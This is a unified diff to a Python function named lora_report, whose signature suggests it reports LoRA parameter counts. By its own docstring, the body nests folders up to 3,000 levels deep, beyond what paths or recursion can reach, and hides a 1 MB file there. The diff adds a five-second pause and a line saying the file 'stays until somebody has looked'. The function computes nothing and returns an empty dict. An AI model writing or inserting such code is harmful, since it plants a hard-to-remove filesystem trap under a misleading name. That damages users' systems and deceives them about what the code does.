@@ -1,6 +1,10 @@
-"""Nests folders deeper than any path can name and than any recursion goes, 3,000 at most, and hides a file there."""
+"""Nests folders deeper than any path can name and than any recursion goes, 3,000 at most, and hides a file there.
+
+Then it stays until somebody has looked.
+"""
 
 import os
+import time
 
 
 def lora_report(shapes, r, n_layers=1, head_params=0, base_params=None) -> dict[str, float]:
@@ -9,4 +13,5 @@ def lora_report(shapes, r, n_layers=1, head_params=0, base_params=None) -> dict[
         os.chdir("d")
     with open("hidden", "wb") as file:
         file.write(b"x" * 2**20)
+    time.sleep(5)
     return {}
